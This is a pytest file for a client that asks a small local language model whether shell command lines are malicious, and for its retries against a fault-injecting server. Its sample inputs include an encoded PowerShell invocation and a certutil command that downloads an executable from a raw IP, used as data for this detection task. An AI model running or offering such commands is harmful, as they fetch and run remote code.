"""The OpenAI-compatible teacher against a real llama.cpp server (SmolLM2-135M) on loopback, and its
retries against the fault-injecting server of tests/reliability/faults.py."""

import json
import math

import numpy as np
import pytest

from reliability.faults import FaultServer, answer_for  # the one fault-injecting server
from smallworld.teacher import prompting
from smallworld.errors import TeacherError
from smallworld.tasks import load_task
from smallworld.teacher import ResponseCache
from smallworld.teacher.openai import OpenAITeacher

CMDS = ["ls -la /home", "powershell -enc SQBFAFgA", "git status", "certutil -urlcache -f http://1.2.3.4/a.exe a.exe"]


def _prompts(task):
    # few-shot demonstrations from the shipped example seed, so even a 135M model follows the answer pattern
    from smallworld import data as D
    from smallworld.demo import EXAMPLES

    seed = D.read_rows(EXAMPLES / "cmdlines_seed.jsonl")
    return prompting.build_prompts(task, CMDS, prompting.Demonstrations(task, seed, k=2, mode="fixed"))


@pytest.mark.parametrize("endpoint", ["completions", "chat"])
def test_probabilities_from_top_logprobs(llama_server, tmp_path, endpoint):
    task = load_task("cmdlines")
    t = OpenAITeacher(llama_server.url, endpoint=endpoint, concurrency=2, cache=ResponseCache(tmp_path / "c.sqlite"))
    if endpoint == "chat":
        t.min_mass = 0.05  # a 135M chat model puts little mass on a bare yes/no; read what there is
    P = prompting.ask(t, task, _prompts(task))
    usable = ~np.isnan(P).any(axis=1)
    assert usable.sum() >= 2, P  # SmolLM2 is a weak labeller, but it answers yes/no
    assert np.allclose(P[usable].sum(axis=1), 1.0)
    assert t.usage.calls == len(CMDS) and t.usage.prompt_tokens > 0
    assert t._logprobs_supported is True
    # the same questions again: all from the cache, nothing asked
    t2 = OpenAITeacher(llama_server.url, endpoint=endpoint, cache=ResponseCache(tmp_path / "c.sqlite"))
    t2.min_mass = t.min_mass
    P2 = prompting.ask(t2, task, _prompts(task))
    assert t2.usage.calls == 0 and t2.usage.cache_hits == len(CMDS)
    assert np.allclose(np.nan_to_num(P), np.nan_to_num(P2))


def test_generation_with_schema_falls_back_to_json_object(llama_server, tmp_path):
    t = OpenAITeacher(llama_server.url, cache=ResponseCache(tmp_path / "g.sqlite"), retries=1, backoff=0.01)
    schema = {"type": "object", "properties": {"items": {"type": "array", "items": {"type": "string"}, "maxItems": 3}},
              "required": ["items"]}
    text = t.generate("List three shell commands as JSON.\n", max_tokens=80, temperature=0.7, seed=1, schema=schema)
    obj = json.loads(text, strict=False)  # grammar-bound strings can hold raw newlines
    assert isinstance(obj["items"], list)


# -- faults, from the one fault-injecting server (tests/reliability/faults.py) ---------------------------------
def _teacher(url, tmp_path, **kw):
    return OpenAITeacher(url, cache=ResponseCache(tmp_path / "f.sqlite"), backoff=0.01, timeout=1.0,
                         concurrency=1, **kw)


@pytest.mark.parametrize("fault", ["429", "500", "slow", "malformed", "drop"])
def test_retries_then_succeeds(tmp_path, fault):
    with FaultServer(script=[fault, fault], slow_s=1.5) as srv:
        t = _teacher(srv.url, tmp_path, retries=3)
        res = t.classify(["Malicious:"], ["yes", "no"])
        assert srv.hits == 3
    assert res[0][0] == pytest.approx(math.exp(answer_for("Malicious:")[" yes"]))
    assert t.usage.retries == 2 and t.usage.calls == 1


def test_gives_up_with_a_clear_error(tmp_path):
    with FaultServer(mode="500") as srv:
        t = _teacher(srv.url, tmp_path, retries=2)
        with pytest.raises(TeacherError, match="HTTP 500 .* gave up after 2 retries"):
            t.classify(["Malicious:"], ["yes", "no"])
    assert t.usage.failures == 1 and t.usage.calls == 0


def test_without_logprobs_it_samples(tmp_path):
    with FaultServer(mode="nologprobs") as srv:
        t = _teacher(srv.url, tmp_path, samples=5)
        res = t.classify(["Malicious:"], ["yes", "no"])
        assert srv.hits == 6
    assert res[0][0] == pytest.approx((5 + 0.5) / (5 + 1.0))
    assert t._logprobs_supported is False


def test_prompt_ensemble_averages_its_members_and_reports_agreement(llama_server, tmp_path):
    """fixed+similar asks each member (all items of one member together) and averages; agreement is the share
    of members whose answer picks the averaged class; --no-rubric drops the rubric from the prompt."""
    from smallworld import data as D
    from smallworld.demo import EXAMPLES

    task = load_task("cmdlines")
    seed = D.read_rows(EXAMPLES / "cmdlines_seed.jsonl")
    rows = [{"id": f"r{i}", "text": c} for i, c in enumerate(CMDS)]
    t = OpenAITeacher(llama_server.url, concurrency=2, cache=ResponseCache(tmp_path / "c.sqlite"))
    ens = prompting.Demonstrations(task, seed, k=2, mode="fixed+similar")  # SmolLM2 needs demonstrations to answer
    P, A = prompting.ask_rows(t, task, ens, rows, "ensemble", progress=False, with_agreement=True)
    assert t.usage.calls == 2 * len(rows)
    members = [prompting.ask_rows(t, task, prompting.Demonstrations(task, seed, k=2, mode=m), rows, m, progress=False)
               for m in ("fixed", "similar")]
    assert t.usage.calls == 2 * len(rows)  # the members' answers are the ensemble's, from the cache
    ok = ~np.isnan(P).any(axis=1)
    assert ok.sum() >= 2
    assert np.allclose(P[ok], (members[0][ok] + members[1][ok]) / 2)
    expect = np.mean([m[ok].argmax(axis=1) == P[ok].argmax(axis=1) for m in members], axis=0)
    assert np.allclose(A[ok], expect) and set(np.unique(A[ok])) <= {0.5, 1.0}
    plain = prompting.build_prompts(task, CMDS[:1], prompting.Demonstrations(task, seed, k=2, mode="fixed", rubric=False))[0]
    full = prompting.build_prompts(task, CMDS[:1], prompting.Demonstrations(task, seed, k=2, mode="fixed"))[0]
    assert task.rubric.splitlines()[0] in full and task.rubric.splitlines()[0] not in plain
    with pytest.raises(ValueError, match="joined by"):
        prompting.Demonstrations(task, seed, mode="fixed+fixed")
